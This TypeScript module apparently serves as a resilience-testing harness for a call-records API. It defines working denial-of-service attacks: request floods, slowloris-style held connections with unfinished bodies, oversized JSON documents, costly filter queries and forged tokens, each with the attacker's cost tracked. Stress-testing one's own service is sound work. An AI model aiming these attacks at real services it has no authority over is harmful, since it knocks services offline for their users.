import { type Socket, connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { Pool } from 'undici';

/** Where the service is, and a token's header that the attacker has. */
export interface Target {
  origin: string;
  authorization: string;
}

/** What an attack has cost the attacker. */
export interface Cost {
  requests: number;
  bytes: number;
}

export interface Attack {
  name: string;
  /** Goes on until that time, by `performance.now()`. */
  run(target: Target, until: number): Promise<Cost>;
}

const API = '/api/v2';
const JSON_API = 'application/vnd.api+json';

interface Sent {
  method: 'GET' | 'POST';
  path: string;
  body?: string;
  headers?: Record<string, string>;
}

/** Sends over so many connections, one request after the other on each. */
function flood(connections: number, request: (n: number) => Sent): Attack['run'] {
  return async ({ origin, authorization }, until) => {
    const pool = new Pool(origin, { connections, pipelining: 1 });
    const cost: Cost = { requests: 0, bytes: 0 };
    const one = async () => {
      while (performance.now() < until) {
        const { method, path, body, headers } = request(cost.requests++);
        cost.bytes += path.length + (body?.length ?? 0);
        const all = { authorization, ...(body !== undefined && { 'content-type': JSON_API }), ...headers };
        try {
          const response = await pool.request({ method, path: API + path, body: body ?? null, headers: all });
          await response.body.dump({ limit: 1e9 });
        } catch {
          // The service may well close the connection.
          await sleep(10);
        }
      }
    };
    await Promise.all(Array.from({ length: connections }, one));
    await pool.destroy();
    return cost;
  };
}

/** Opens so many connections, writes that on each, reads nothing, and opens those again that the service has closed. */
function hold(connections: number, text: (target: Target) => string): Attack['run'] {
  return async (target, until) => {
    const { hostname, port } = new URL(target.origin);
    const sockets = new Set<Socket>();
    const bytes = Buffer.from(text(target));
    const cost: Cost = { requests: 0, bytes: 0 };
    // Not all at once, which would keep this process from looking at what others have of the service.
    for (; performance.now() < until; await sleep(5)) {
      if (sockets.size >= connections) continue;
      const socket = connect(Number(port), hostname).on('error', () => undefined);
      sockets.add(socket.on('close', () => sockets.delete(socket)).pause());
      socket.write(bytes);
      cost.requests++;
      cost.bytes += bytes.length;
    }
    for (const socket of sockets) socket.destroy();
    return cost;
  };
}

const unknownAttributes = JSON.stringify({
  data: { type: 'call', attributes: Object.fromEntries(Array.from({ length: 90_000 }, (_, n) => [`a${n}`, 0])) },
});

/** Of a shape of its own each time. */
function ranges(n: number): Sent {
  const [first, second] = [10 + (n % 40), 50 - (10 + (n % 40))];
  const list = (count: number, from: string) =>
    Array.from({ length: count }, (_, index) => `${from}${index}..${from}${index}5`).join();
  const keys = ['direction', 'from', 'to', 'outcome', 'recordingUrl', 'dialedAt', 'answeredAt', 'createdAt'];
  const sort = [0, 1, 2, 3].map((place) => `${n & (1 << place) ? '-' : ''}${keys[(n + 3 * place) % keys.length]}`);
  const unique = [...new Set(sort.map((key) => key.replace('-', '')))].length === sort.length ? sort : [keys[n % 8]];
  return {
    method: 'GET',
    path: `/calls?filter[from]=${list(first, '+4')}&filter[to]=${list(second, '+5')}&sort=${unique.join()}`,
  };
}

const request = (head: string, headers: string[], body = '') =>
  [head, 'Host: localhost', ...headers, '', body].join('\r\n');

const unfinished = (authorization: string[]) =>
  request(
    `POST ${API}/calls HTTP/1.1`,
    [...authorization, `Content-Type: ${JSON_API}`, 'Content-Length: 1000000'],
    'x'.repeat(900_000),
  );

export const ATTACKS: Attack[] = [
  {
    name: '90,000 unknown attributes in a document',
    run: flood(4, () => ({ method: 'POST', path: '/calls', body: unknownAttributes })),
  },
  { name: 'filters of 50 ranges, each of another shape', run: flood(8, ranges) },
  {
    name: 'pages of the longest notes',
    run: flood(16, () => ({ method: 'GET', path: '/calls?page[size]=1000&filter[outcome]=Answered' })),
  },
  {
    name: 'the same, not read',
    run: hold(200, ({ authorization }) =>
      request(
        `GET ${API}/calls?page[size]=1000&filter[outcome]=Answered HTTP/1.1`,
        [`Authorization: ${authorization}`],
        '',
      ),
    ),
  },
  {
    name: 'counts, by one user over 16 connections',
    run: flood(16, (n) => ({
      method: 'GET',
      path: `/calls?count=true&page[size]=1&filter[createdAt]=neginf..inf&filter[id]=${n}..inf`,
    })),
  },
  { name: 'bodies without a token', run: hold(400, () => unfinished([])) },
  {
    name: 'bodies with a token, never finished',
    run: hold(400, ({ authorization }) => unfinished([`Authorization: ${authorization}`])),
  },
  {
    name: 'tokens that are made up',
    run: flood(32, (n) => ({
      method: 'GET',
      path: '/callPurposes',
      headers: { authorization: `Bearer eyJhbGciOiJIUzI1NiJ9.${n}.${'A'.repeat(43)}` },
    })),
  },
  {
    name: 'calls, as fast as it goes',
    run: flood(32, (n) => ({
      method: 'POST',
      path: '/calls',
      body: JSON.stringify({ data: { type: 'call', attributes: { direction: 'inbound', from: String(n) } } }),
    })),
  },
];
